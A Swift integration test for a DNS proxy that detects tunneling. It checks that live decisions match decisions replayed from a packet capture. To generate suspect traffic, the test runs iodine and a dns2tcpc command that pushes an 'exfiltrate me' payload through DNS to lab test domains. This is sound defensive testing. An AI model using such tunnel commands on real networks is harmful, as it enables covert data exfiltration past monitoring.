import Foundation
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// A live run captured on the sandbox side with tcpdump, replayed with `airlock replay --policy`:
/// the same queries get the same engine verdicts and the same policy decisions.
extension DNSProxyIntegration {
    @Suite(
        .serialized,
        .enabled(if: Lab.enabled(TunnelLab.tools, root: true), "needs root and iodine, dns2tcp, nsd, dnsdist, tcpdump"))
    struct ReplayParityTests {
        @Test func liveDecisionsAndReplayedDecisionsAgree() throws {
            var net = try TunnelLab()
            try net.startIodined()
            try net.startDns2tcpd()
            let capture = net.lab.path("live.pcap")
            let tcpdump = try net.lab.start(
                "/usr/bin/tcpdump", ["-i", "sb\(net.lab.tag)", "-w", capture, "-U", "port", "53"],
                namespace: net.gateway,
                log: "tcpdump")
            #expect(Lab.waitFor(5) { net.lab.read("tcpdump.err").contains("listening") })
            try net.startAirlock()

            for name in ["www.example.test", "api.example.test", "docs.example.test", "nx.example.test"] {
                _ = net.ordinaryLookupWorks(name)
            }
            _ = try Lab.run(
                "/usr/sbin/iodine", ["-f", "-r", "-P", "airlock-test", TunnelLab.resolver, "t1.tunnel.test"],
                namespace: net.sandbox, timeout: 12)
            let input = try net.lab.write("payload.txt", String(repeating: "exfiltrate me\n", count: 500))
            _ = try Lab.run(
                "/bin/sh",
                ["-c", "timeout 8 dns2tcpc -z t2.tunnel2.test -r echo -l - \(TunnelLab.resolver) < \(input)"],
                namespace: net.sandbox, timeout: 12)
            // The last lookup's query and answer are in the capture before tcpdump stops (it writes
            // packet by packet, -U): the name's wire form appears twice more than before it.
            let wireName = [3] + Array("www".utf8) + [7] + Array("example".utf8) + [4] + Array("test".utf8) + [0]
            func occurrences() -> Int {
                let bytes = [UInt8]((try? Data(contentsOf: URL(fileURLWithPath: capture))) ?? Data())
                guard bytes.count >= wireName.count else { return 0 }
                return (0...(bytes.count - wireName.count)).count { bytes[$0..<($0 + wireName.count)].elementsEqual(wireName) }
            }
            let before = occurrences()
            _ = net.ordinaryLookupWorks("www.example.test", tcp: true)
            #expect(Lab.waitFor(5) { occurrences() >= before + 2 }, "the last lookup reached the capture")
            net.lab.stop(tcpdump, signal: SIGINT)

            let policy = net.lab.path("policy.yaml")
            let replay = try Lab.run(Lab.airlock, ["replay", "--jsonl", "--policy", policy, capture], timeout: 30)
            #expect(replay.status == 0, "\(replay.stderr)")
            let replayed = replay.stdout.split(separator: "\n").compactMap {
                (try? JSONSerialization.jsonObject(with: Data($0.utf8))) as? [String: Any]
            }.filter { $0["event"] as? String == "dns_decision" }
            let live = net.lab.decisions()

            func key(_ r: [String: Any]) -> String {
                let verdict = r["verdict"] as? [String: Any]
                return [
                    r["stage"] as? String ?? "", r["name"] as? String ?? "", r["qtype"] as? String ?? "",
                    r["action"] as? String ?? "", r["rule"] as? String ?? "-", verdict?["kind"] as? String ?? "-",
                    (verdict?["first"] as? Bool).map { "\($0)" } ?? "-",
                    verdict.flatMap { $0["queries"] as? Int }.map { "\($0)" } ?? "-",
                ].joined(separator: " ")
            }
            let liveKeys = live.filter { $0["stage"] as? String == "query" }.map(key).sorted()
            let replayKeys = replayed.filter { $0["stage"] as? String == "query" }.map(key).sorted()
            print(
                "live decisions: \(liveKeys.count), replayed: \(replayKeys.count), blocked live: \(live.filter { $0["action"] as? String == "block" }.count)"
            )
            #expect(liveKeys.count >= 20)
            let same = liveKeys == replayKeys
            #expect(same, "live and replayed decisions differ (see the lines printed above)")
            if !same {
                let l = Set(liveKeys)
                let r = Set(replayKeys)
                print(
                    "only live: \(l.subtracting(r).sorted().prefix(10))\nonly replay: \(r.subtracting(l).sorted().prefix(10))"
                )
            }
            #expect(
                live.contains {
                    $0["alert"] as? Bool == true && ($0["verdict"] as? [String: Any])?["kind"] as? String == "tunnel"
                })
        }
    }
}
